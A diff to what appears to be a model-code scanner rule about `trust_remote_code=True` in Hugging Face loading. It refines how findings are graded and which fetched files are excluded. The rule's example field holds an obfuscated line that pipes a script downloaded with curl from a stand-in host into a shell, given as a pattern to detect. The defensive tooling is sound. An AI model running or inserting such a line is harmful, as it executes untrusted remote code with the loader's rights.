@@ -163,7 +163,9 @@ extern const Rule unsafe_code = {
     .why =
         "`trust_remote_code=True` runs the code that `auto_map` names, with all the rights of whoever loads the model. "
         "An error would run on import or construction, a warning is reachable from `forward` or `generate` (of a "
-        "tokenizer or processor, from its call), a remark is only present.",
+        "tokenizer or processor, from its call), a remark is only present, or in a branch that config.json does not take. "
+        "Conditions that nobody knows beforehand count as met. What `from_pretrained` and `hf_hub_download` fetch, and files "
+        "that the caller names, are no finding.",
     .example = "modeling_x.py: getattr(os, \"sys\" + \"tem\")(\"curl https://example.org/x | sh\")",
     .remedy =
         "Read the place and the chain of calls before you load the model. In code of your own, leave it to those who "
